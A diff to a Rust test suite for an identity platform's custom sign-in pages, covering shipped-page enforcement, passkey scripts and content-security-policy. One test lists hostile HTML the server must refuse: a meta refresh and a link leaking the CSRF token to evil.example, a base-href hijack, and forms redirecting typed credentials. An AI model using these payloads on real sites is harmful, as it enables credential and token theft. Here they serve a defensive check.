@@ -4,7 +4,13 @@ use base64::{Engine as _, prelude::BASE64_STANDARD};
 use chancery_testkit::{Answer, World, on_both_engines};
 use serde_json::{Value, json};
 
-use super::{BASE, CALLBACK, Home, PASSWORD, browser::Browser, change, encode, first, relate, tenant_option};
+use super::{
+    BASE, CALLBACK, Home, PASSWORD,
+    browser::Browser,
+    change, encode, first,
+    passkey::{show, with_passkey},
+    relate, tenant_option,
+};
 use crate::{id, pointers};
 
 /// A page with a form like the shipped one's, and a word by which it is known.
@@ -158,6 +164,102 @@ on_both_engines! {
         }
     }
 
+    /// Whoever writes the pages at which people sign in to the platform could lead people on by them who have more rights. So
+    /// these pages are the shipped ones, with the tenant's brand.
+    async fn the_platform_is_signed_in_to_by_shipped_pages(world: World) {
+        let home = Home::new(&world).await;
+        let near = world.client("near", &[("TenantAdmin", Some(home.tenant.parse().unwrap()), None)]).await;
+        let of_tenant = json!({ "location": format!("/views/tenant/{}/SignIn", home.tenant), "content": marked("of the tenant") });
+        near.post(&format!("{BASE}/CustomView"), of_tenant).await.expect(201);
+        put_view(&world, "/views/global/Layout", "<p>of all</p>{% block main %}{% endblock %}").await;
+        put_view(&world, &format!("/views/clientapp/{}/SignIn", id(&home.app)), &marked("of the app")).await;
+        tenant_option(&world, &home, "BrandName", "Harbour & Sons").await;
+        assert!(shown(&world, &home).await.contains("<p>of the tenant"));
+        let is_shipped = |html: &str| {
+            assert!(html.contains("class=\"card\"") && !html.contains("<p>of "), "{html}");
+            assert!(html.contains("· Harbour &amp; Sons</title>"), "{html}");
+        };
+        let page = Browser::new(&world).open("/console").await;
+        assert!(page.html.contains("name=\"password\""), "{}", page.html);
+        is_shipped(&page.html);
+        for key in ["PlatformManagementService", "PlatformUserStoreService"] {
+            let resource = world.make("ClientAppResource", json!({ "clientAppId": home.app["id"], "key": key })).await;
+            let mut browser = Browser::new(&world);
+            let page = browser.open(&home.request(&[])).await;
+            is_shipped(&page.html);
+            is_shipped(&browser.type_password(&page, "ann", "not this one").await.html);
+            let posted = home.request(&[("response_mode", "form_post"), ("prompt", "none")]);
+            is_shipped(&browser.open(&format!("/t/{}{posted}", home.tenant)).await.html);
+            world.admin.delete(&format!("{BASE}/ClientAppResource/{}", id(&resource))).await.expect(204);
+        }
+        assert!(shown(&world, &home).await.contains("<p>of the tenant"));
+    }
+
+    /// What is typed and proven on a page goes to this server's step alone. What a page would lose is refused; what samples do
+    /// not show goes when the page is shown.
+    async fn a_view_leads_nobody_elsewhere(world: World) {
+        let home = Home::new(&world).await;
+        let location = format!("/views/tenant/{}/SignIn", home.tenant);
+        let tricks = [
+            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?{{ csrf }}\">", "<meta>", "http-equiv"),
+            ("<base href=\"https://evil.example/\">", "<base>", "<base"),
+            ("<form method=\"get\" action=\"/device\"><input type=\"password\" name=\"user_code\"></form>", "<form>", "user_code"),
+            ("<form method=\"post\" action=\"/console/ClientAppRole/new\"><input name=\"a\"></form>", "<form>", "ClientAppRole"),
+            ("<button formaction=\"/console\">x</button>", "<button>", "formaction"),
+            ("<script src=\"/content/assets/global/x.js\"></script>", "<script>", "x.js"),
+            ("<form method=\"post\" action=\"{{ action | url }}\" data-options=\"&#123;&quot;challenge&quot;:&quot;AAAA&quot;&#125;\"></form>", "form data-options", "AAAA"),
+            ("<a href=\"https://evil.example/{{ csrf }}\">x</a>", "a href", "evil.example"),
+        ];
+        for (html, lost, mark) in tricks {
+            let content = format!("<!DOCTYPE html><title>own</title><p>{html}");
+            let body = json!({ "location": location, "content": content });
+            let problem = world.admin.post(&format!("{BASE}/CustomView"), body).await.problem(400, "invalid-request");
+            assert_eq!(pointers(&problem), ["/content"]);
+            assert!(problem["errors"][0]["detail"].as_str().unwrap().contains(lost), "{problem}");
+            // the samples have links, and this tenant has none
+            put_view(&world, &location, &format!("<!DOCTYPE html><title>own</title><p>{{% if not links %}}{html}{{% endif %}}")).await;
+            let html = shown(&world, &home).await;
+            assert!(html.contains("<title>own</title>") && !html.contains(mark), "{html}");
+            world.admin.delete(&format!("{BASE}/CustomView{location}")).await.expect(204);
+        }
+        assert_eq!(failed(&world).await, 0);
+    }
+
+    /// An authenticator is asked what the page's own script is told, whoever wrote the page.
+    async fn a_view_has_the_script_of_its_page(world: World) {
+        let (home, authenticator) = with_passkey(&world).await;
+        let view = "<form method=\"post\" action=\"{{ action }}\" data-passkey><input type=\"hidden\" name=\"csrf\" value=\"{{ csrf }}\">\
+            <input type=\"hidden\" name=\"credential\" value=\"\"><button>own</button></form>";
+        put_view(&world, &format!("/views/tenant/{}/SignIn", home.tenant), view).await;
+        let mut browser = Browser::new(&world);
+        let page = browser.open(&home.request(&[])).await;
+        assert!(page.html.contains("data-passkey=\"get\" data-options=\"{") && page.html.contains("<button>own"), "{}", page.html);
+        let next = show(&mut browser, &page, &authenticator, &home.user).await;
+        assert!(browser.go_on(&next).await.contains("code="));
+        // a page without such a form has none
+        let page = "<form method=\"post\" action=\"{{ action }}\">{% for field in fields %}<input type=\"hidden\" name=\"{{ field.name }}\" value=\"{{ field.value }}\">{% endfor %}</form>";
+        put_view(&world, &format!("/views/tenant/{}/Continue", home.tenant), page).await;
+        let page = browser.open(&home.request(&[("response_mode", "form_post")])).await;
+        assert!(page.html.contains("<script src=\"/signin/post.js\" defer></script>"), "{}", page.html);
+        home.redeem(&world, &page.field("code"), &[]).await.expect(200);
+    }
+
+    /// An address of a picture could tell what lets somebody in: pages of a customer that show such things load none from elsewhere.
+    async fn a_page_with_a_secret_loads_nothing_from_elsewhere(world: World) {
+        let home = Home::new(&world).await;
+        tenant_option(&world, &home, "BrandLogo", "https://cdn.example/logo.svg").await;
+        let request = format!("/t/{}{}", home.tenant, home.request(&[("response_mode", "form_post"), ("prompt", "none")]));
+        let policy = async || {
+            let page = Browser::new(&world).open(&request).await;
+            page.answer.header("content-security-policy").unwrap().to_owned()
+        };
+        assert!(policy().await.contains("img-src 'self' data: https://cdn.example;"));
+        put_view(&world, &format!("/views/tenant/{}/Layout", home.tenant), "{% block main %}{% endblock %}").await;
+        assert!(policy().await.contains("img-src 'self' data:; "));
+        let page = Browser::new(&world).open(&home.request(&[])).await;
+        assert!(page.answer.header("content-security-policy").unwrap().contains("https://cdn.example;"));
+    }
+
     /// What administrators say of an app stands in its views, escaped.
     async fn a_view_knows_what_is_said_of_the_app(world: World) {
         let home = Home::new(&world).await;
@@ -212,18 +314,18 @@ on_both_engines! {
         put_view(&world, &format!("/views/tenant/{}/Layout", home.tenant), "<html lang=\"{{ language }}\">frame {% block main %}{% endblock %}").await;
         let told = preview(&world, draft(&marked("tried"))).await.is(200).json();
         let html = told["html"].as_str().unwrap();
-        assert!(html.starts_with("<html lang=\"en\">frame") && html.contains("<p>tried"), "{told}");
+        assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">") && html.contains("frame <p>tried"), "{told}");
         assert_eq!((&told["page"], &told["failure"]), (&json!("SignIn"), &Value::Null));
         assert!(told["samples"].as_array().unwrap().contains(&told["sample"]));
         assert!(!shown(&world, &home).await.contains("tried"));
         let mut german = draft(&marked("tried"));
         german["language"] = json!("de");
-        assert!(preview(&world, german).await.is(200).json()["html"].as_str().unwrap().starts_with("<html lang=\"de\">"));
+        assert!(preview(&world, german).await.is(200).json()["html"].as_str().unwrap().contains("<html lang=\"de\">"));
         // a part is shown in a page; the tenant's brand is in it
         tenant_option(&world, &home, "BrandName", "Harbour & Sons").await;
         let style = json!({ "location": format!("/views/tenant/{}/Layout", home.tenant), "content": "{{ brand.name }}{% block main %}{% endblock %}", "page": "Consent" });
         let told = preview(&world, style).await.is(200).json();
-        assert!(told["page"] == "Consent" && told["html"].as_str().unwrap().starts_with("Harbour &amp; Sons"), "{told}");
+        assert!(told["page"] == "Consent" && told["html"].as_str().unwrap().contains("<body>Harbour &amp; Sons"), "{told}");
         // what fails is told with its place
         let told = preview(&world, draft("<p>\n {{ nothing.there }}")).await.is(200).json();
         assert_eq!((&told["html"], &told["failure"]["view"], &told["failure"]["line"]), (&Value::Null, &json!("SignIn"), &json!(2)));
